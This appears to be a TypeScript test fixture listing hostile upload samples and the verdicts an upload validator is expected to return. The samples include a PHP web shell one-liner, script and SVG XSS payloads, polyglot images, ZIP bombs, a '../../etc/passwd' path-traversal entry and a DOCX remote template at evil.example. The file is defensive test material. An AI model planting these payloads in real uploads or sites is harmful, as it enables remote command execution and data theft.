import type { UploadPurpose } from "@boab/contracts/uploads/uploads";
import {
  docm,
  docx,
  eicar,
  hiddenWord,
  jpeg,
  ole,
  overlappingDocx,
  pdf,
  photoWithPlace,
  picture,
  png,
  pngChunk,
  tightPng,
  webp,
  withComment,
  zip,
} from "./make-files.ts";

export interface HostileFile {
  what: string;
  make: () => Buffer | Promise<Buffer>;
  /** The type its sender claims. */
  type: string;
  purpose: UploadPurpose;
  /** `ready`, or why it is refused. */
  verdict: string;
}

const docxType = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const types = {
  jpeg: "image/jpeg",
  png: "image/png",
  webp: "image/webp",
  pdf: "application/pdf",
  doc: "application/msword",
  docx: docxType,
};

type Row = [string, HostileFile["make"], keyof typeof types, string];

const html = "<!doctype html><script>alert(document.domain)</script>";
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`;
const php = "<?php system($_GET['c']); ?>";
const gif = Buffer.from("R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw==", "base64");
const bmp = Buffer.concat([Buffer.from("BM"), Buffer.alloc(200)]);
const tiff = () => picture(20, 20).tiff().toBuffer();
const avif = Buffer.from("0000001c6674797061766966000000006d696631617669666d696166", "hex");
const heic = Buffer.from("0000001c6674797068656963000000006d6966316865696368657663", "hex");
const exe = Buffer.concat([Buffer.from("MZ"), Buffer.alloc(500)]);
const followedBy = async (start: Promise<Buffer> | Buffer, end: string | Buffer) =>
  Buffer.concat([await start, Buffer.from(end)]);
const part = async (file: Promise<Buffer>, share: number) => {
  const bytes = await file;
  return bytes.subarray(0, Math.floor(bytes.length * share));
};
const blanks = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024, 0x20);
const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>${hiddenWord}</exif:GPSLatitude></x:xmpmeta>`;
const textChunk = pngChunk("tEXt", Buffer.from(`Comment\0${hiddenWord}`));

const pictures: Row[] = [
  ["a JPEG", () => jpeg(), "jpeg", "ready"],
  ["a PNG", () => png(), "png", "ready"],
  ["a WebP", () => webp(), "webp", "ready"],
  ["a grey picture", () => picture(300, 200).greyscale().png().toBuffer(), "png", "ready"],
  ["a picture of one pixel", () => png(1, 1), "png", "ready"],
  ["a JPEG with its place", () => photoWithPlace("jpeg"), "jpeg", "ready"],
  ["a WebP with its place", () => photoWithPlace("webp"), "webp", "ready"],
  ["a PNG with its place", () => photoWithPlace("png"), "png", "ready"],
  ["a JPEG lying on its side", () => photoWithPlace("jpeg", 8), "jpeg", "ready"],
  [
    "a JPEG with a word in a comment",
    async () => withComment(await jpeg(), hiddenWord),
    "jpeg",
    "ready",
  ],
  [
    "a JPEG with a script in a comment",
    async () => withComment(await jpeg(), html),
    "jpeg",
    "ready",
  ],
  ["a JPEG with XMP in a comment", async () => withComment(await jpeg(), xmp), "jpeg", "ready"],
  [
    "a PNG with a word in a text",
    async () => {
      const bytes = await png();
      return Buffer.concat([bytes.subarray(0, 33), textChunk, bytes.subarray(33)]);
    },
    "png",
    "ready",
  ],
  ["a JPEG and a page", () => followedBy(jpeg(), html), "jpeg", "ready"],
  [
    "a JPEG and a ZIP",
    () => followedBy(jpeg(), zip([{ name: "a.exe", text: exe }])),
    "jpeg",
    "ready",
  ],
  ["a PNG and PHP", () => followedBy(png(), php), "png", "ready"],
  ["a WebP and a page", () => followedBy(webp(), html), "webp", "ready"],
  ["a PNG and the test virus", () => followedBy(png(), eicar), "png", "virus"],
  [
    "49 megapixels, a JPEG on its side",
    () => photoWithPlace("jpeg", 6, [7000, 7000]),
    "jpeg",
    "ready",
  ],
  ["49 megapixels, a PNG", () => png(7000, 7000), "png", "ready"],
  ["49 megapixels, a WebP", () => webp(7000, 7000), "webp", "ready"],
  ["a picture 16 pixels high", () => png(30_000, 16), "png", "ready"],
  ["81 megapixels", () => tightPng(9_000, 9_000), "png", "tooManyPixels"],
  ["196 megapixels", () => tightPng(14_000, 14_000), "png", "tooManyPixels"],
  ["289 megapixels", () => tightPng(17_000, 17_000), "png", "tooManyPixels"],
  [
    "196 megapixels announced, one row sent",
    () => tightPng(14_000, 14_000, 1),
    "png",
    "tooManyPixels",
  ],
  ["a PNG with half its rows", () => tightPng(800, 800, 400), "png", "broken"],
  ["an SVG", () => Buffer.from(svg), "png", "wrongType"],
  ["an SVG as XML", () => Buffer.from(`<?xml version="1.0"?>${svg}`), "jpeg", "wrongType"],
  ["a page", () => Buffer.from(html), "jpeg", "wrongType"],
  ["PHP", () => Buffer.from(php), "jpeg", "wrongType"],
  ["a GIF", () => gif, "png", "wrongType"],
  ["a GIF with a script", () => followedBy(gif, "=1;alert(1)"), "jpeg", "wrongType"],
  ["a BMP", () => bmp, "png", "wrongType"],
  ["a TIFF", tiff, "jpeg", "wrongType"],
  ["an AVIF", () => avif, "webp", "wrongType"],
  ["a HEIC", () => heic, "jpeg", "wrongType"],
  ["a program", () => exe, "png", "wrongType"],
  ["a PDF", () => pdf(), "jpeg", "wrongType"],
  ["a PNG called a JPEG", () => png(), "jpeg", "wrongType"],
  ["a JPEG called a WebP", () => jpeg(), "webp", "wrongType"],
  ["nothing", () => Buffer.alloc(0), "jpeg", "missing"],
  ["one byte", () => Buffer.from([0xff]), "jpeg", "wrongType"],
  ["zeros", () => Buffer.alloc(5_000), "jpeg", "wrongType"],
  ["the start of a JPEG", async () => (await jpeg()).subarray(0, 20), "jpeg", "broken"],
  ["half a JPEG", () => part(jpeg(2_000, 2_000), 0.5), "jpeg", "broken"],
  ["half a PNG", () => part(png(2_000, 2_000), 0.5), "png", "broken"],
  ["half a WebP", () => part(photoWithPlace("webp"), 0.5), "webp", "broken"],
  [
    "a JPEG's first bytes and a page",
    () => followedBy(Buffer.from([0xff, 0xd8, 0xff, 0xe0]), html),
    "jpeg",
    "broken",
  ],
  [
    "a JPEG with too many bytes behind it",
    () => followedBy(jpeg(), blanks(26)),
    "jpeg",
    "tooLarge",
  ],
];

const relationships = (target: string, type = "http://x/attachedTemplate") => ({
  name: "word/_rels/settings.xml.rels",
  text: `<Relationships><Relationship Type="${type}" Target="${target}" TargetMode="External"/></Relationships>`,
});

const documents: Row[] = [
  ["a PDF", () => pdf(), "pdf", "ready"],
  ["a DOC", () => ole("WordDocument"), "doc", "ready"],
  ["a DOCX", () => docx(), "docx", "ready"],
  [
    "a DOCX with pictures",
    () => docx([{ name: "word/media/image1.png", text: tightPng(99, 99) }]),
    "docx",
    "ready",
  ],
  ["a PDF and a long page behind it", () => followedBy(pdf(), html.repeat(40)), "pdf", "broken"],
  ["half a PDF", () => pdf().subarray(0, 30), "pdf", "broken"],
  ["a page called a PDF", () => Buffer.from(html), "pdf", "wrongType"],
  ["a page before a PDF", () => followedBy(Buffer.from(html), pdf()), "pdf", "wrongType"],
  ["a DOCX called a PDF", () => docx(), "pdf", "wrongType"],
  ["a picture called a PDF", () => png(), "pdf", "wrongType"],
  ["a DOC with macros", () => ole("WordDocument", "Macros", "_VBA_PROJECT"), "doc", "macros"],
  ["a spreadsheet called a DOC", () => ole("Workbook"), "doc", "wrongType"],
  ["a DOCM", docm, "docx", "macros"],
  [
    "a DOCM that says it is a DOCX",
    () => docx([{ name: "word/vbaProject.bin", text: "x" }]),
    "docx",
    "macros",
  ],
  [
    "a DOCX with hidden macro data",
    () => docx([{ name: "word/VbaData.xml", text: "x" }]),
    "docx",
    "macros",
  ],
  [
    "a DOCX with a template elsewhere",
    () => docx([relationships("http://evil.example/t.dotm")]),
    "docx",
    "macros",
  ],
  ["a ZIP", () => zip([{ name: "a.txt", text: "a" }]), "docx", "wrongType"],
  [
    "a ZIP bomb",
    () => docx([{ name: "word/bomb.xml", text: blanks(50) }]),
    "docx",
    "packedTooTightly",
  ],
  [
    "a ZIP bomb of 70 MB",
    () => docx([{ name: "word/bomb.xml", text: blanks(70) }]),
    "docx",
    "packedTooTightly",
  ],
  [
    "a ZIP bomb that lies about its size",
    () => docx([{ name: "word/bomb.xml", text: blanks(40), claimedSize: 100 }]),
    "docx",
    "packedTooTightly",
  ],
  [
    "a DOCX of thousands of parts",
    () => docx(Array.from({ length: 2_500 }, (_, index) => ({ name: `word/${index}`, text: "" }))),
    "docx",
    "packedTooTightly",
  ],
  [
    "a DOCX with a template elsewhere, written in character references",
    () => docx([relationships("http://evil.example/>", "http://x/&#97;ttached&#x54;emplate")]),
    "docx",
    "macros",
  ],
  ["a DOCX with parts that share their bytes", overlappingDocx, "docx", "broken"],
  [
    "a DOCX with a name that leads out of it",
    () => docx([{ name: "../../etc/passwd", text: "x" }]),
    "docx",
    "broken",
  ],
  ["a locked DOCX", () => docx([], undefined, 1), "docx", "broken"],
  ["half a DOCX", () => docx().subarray(0, 250), "docx", "broken"],
  [
    "a DOCX with the test virus inside",
    () => docx([{ name: "word/a.bin", text: eicar }]),
    "docx",
    "virus",
  ],
  ["the test virus", () => Buffer.from(eicar), "pdf", "virus"],
  ["a PDF with the test virus", () => pdf(eicar), "pdf", "virus"],
  ["too large a PDF", () => followedBy(pdf(), blanks(6)), "pdf", "tooLarge"],
];

const toFiles = (rows: Row[], purpose: UploadPurpose): HostileFile[] =>
  rows.map(([what, make, type, verdict]) => ({ what, make, type: types[type], purpose, verdict }));

/** What people upload by mistake or on purpose, and what we expect. */
export const hostileFiles: HostileFile[] = [
  ...toFiles(pictures, "item-photo"),
  ...toFiles(documents, "job-resume"),
];
